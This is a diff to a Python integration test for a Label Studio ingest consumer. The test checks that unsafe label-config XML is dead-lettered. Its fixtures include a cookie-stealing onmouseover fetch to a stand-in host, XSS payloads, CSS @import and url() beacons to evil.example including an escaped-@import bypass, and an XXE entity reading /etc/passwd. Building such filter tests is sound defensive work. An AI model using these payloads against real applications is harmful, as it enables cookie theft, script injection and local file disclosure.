@@ -14,21 +14,39 @@ from labelstudio_ingest.consumer import deadletter as dl
 from labelstudio_ingest.consumer.labelconfig import default_config
 from labelstudio_ingest.schemas import Target
 from tests.consumer.runner import Rig, eventually, project_titled, prompt_event, read_topic, run_ids_of
+from tests.label_configs import STYLED_CUSTOM_CONFIG, label_studio_template
 
 pytestmark = pytest.mark.integration
 
 BODY = '<Text name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/>'
+ANSWER = '<TextArea name="response" toName="prompt"/>'
+OUTSIDE = "https://evil.example/x"
 HOSTILE_CONFIGS = {
     "handler": f'<View>{BODY}<Header value="Rate" onmouseover="fetch(`//evil/`+document.cookie)"/></View>',
     "js-url": f'<View>{BODY}<Image name="logo" value="javascript:alert(1)"/></View>',
     "hypertext-script": (
         f'<View>{BODY}<HyperText name="h" value="&lt;script&gt;alert(1)&lt;/script&gt;"/></View>'
     ),
-    "hypertext-run-text": (
-        '<View><HyperText name="prompt" value="$prompt"/><TextArea name="response" toName="prompt"/></View>'
+    "hypertext-run-text": f'<View><HyperText name="prompt" value="$prompt"/>{ANSWER}</View>',
+    "hypertext-template": f'<View><HyperText name="prompt" value="Q: $prompt"/>{ANSWER}</View>',
+    "choice-html": (
+        f'<View>{BODY}<Choices name="c" toName="prompt">'
+        '<Choice value="a" html="&lt;img src=x onerror=alert(1)&gt;"/></Choices></View>'
     ),
-    "css-import": f"<View><Style>@import url(https://evil.example/x.css);</Style>{BODY}</View>",
+    "text-url": f'<View><Text name="prompt" value="$prompt" valueType="url"/>{ANSWER}</View>',
+    "image-outside": f'<View>{BODY}<Image name="pixel" value="{OUTSIDE}"/></View>',
+    "css-import": f"<View><Style>@import url({OUTSIDE});</Style>{BODY}</View>",
+    "css-url": f"<View><Style>.lsf-main {{ background: url({OUTSIDE}) }}</Style>{BODY}</View>",
+    "css-escaped-import": f"<View><Style>@\\69mport url({OUTSIDE});</Style>{BODY}</View>",
+    "css-after-child": f"<View><Style>.a {{ color: red }}<b/>@import url({OUTSIDE});</Style>{BODY}</View>",
+    "view-style-url": f'<View style="background: url({OUTSIDE})">{BODY}</View>',
     "entities": '<!DOCTYPE View [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + f"<View>{BODY}</View>",
+}
+HARMLESS_CONFIGS = {
+    # The default prompt config with its <Style> block is a config from an event too: it stays allowed.
+    "style": default_config("prompt"),
+    "custom-style": STYLED_CUSTOM_CONFIG,
+    "ls-template": label_studio_template("generative-ai--supervised-llm"),
 }
 
 
@@ -45,26 +63,39 @@ def test_hostile_label_configs_create_nothing(rig: Rig) -> None:
         kind: Target(project_name=_title(kind), project_config=xml) for kind, xml in HOSTILE_CONFIGS.items()
     }
     hostile = {kind: prompt_event(target=target) for kind, target in targets.items()}
-    # The reference prompt config with its <Style> block is a config from an event too: it stays allowed.
-    good_target = Target(project_name=_title("style"), project_config=default_config("prompt"))
-    good = prompt_event(target=good_target)
-    rig.publisher.events(rig.topic, [*hostile.values(), good])
+    good = {
+        kind: prompt_event(target=Target(project_name=_title(kind), project_config=xml))
+        for kind, xml in HARMLESS_CONFIGS.items()
+    }
+    rig.publisher.events(rig.topic, [*hostile.values(), *good.values()])
 
     consumer = rig.consumer().start().wait_ready()
     try:
-        project = eventually(lambda: project_titled(rig.ls_client, good_target.project_name or ""))
-        eventually(lambda: run_ids_of(rig.ls_client, project.id) == [str(good.run_id)], message="good task")
+        for kind, event in good.items():
+            project = eventually(lambda e=event: project_titled(rig.ls_client, e.target.project_name or ""))
+            eventually(
+                lambda p=project, e=event: run_ids_of(rig.ls_client, p.id) == [str(e.run_id)], message=kind
+            )
         dead = read_topic(rig.bootstrap, f"{rig.topic}.dlq", expect=len(hostile))
         assert _reasons(dead) == {str(e.run_id).encode(): "unsafe_label_config" for e in hostile.values()}
         messages = {dl.header(list(r.headers), dl.H_MESSAGE) or "" for r in dead}
-        assert any("onmouseover" in m for m in messages)
-        assert any("DTD" in m for m in messages)
+        for named in (
+            "'onmouseover'",
+            "<HyperText>",
+            "'html'",
+            "'valueType'",
+            "<Image>",
+            "'@import'",
+            "url(",
+            "DTD",
+        ):
+            assert any(named in m for m in messages), named
         for target in targets.values():
             assert project_titled(rig.ls_client, target.project_name or "") is None
         assert consumer.metric("ingest_events_dead_lettered_total", reason="unsafe_label_config") == len(
             hostile
         )
-        assert consumer.metric("ingest_projects_created_total") == 1
+        assert consumer.metric("ingest_projects_created_total") == len(good)
     finally:
         consumer.kill()
 
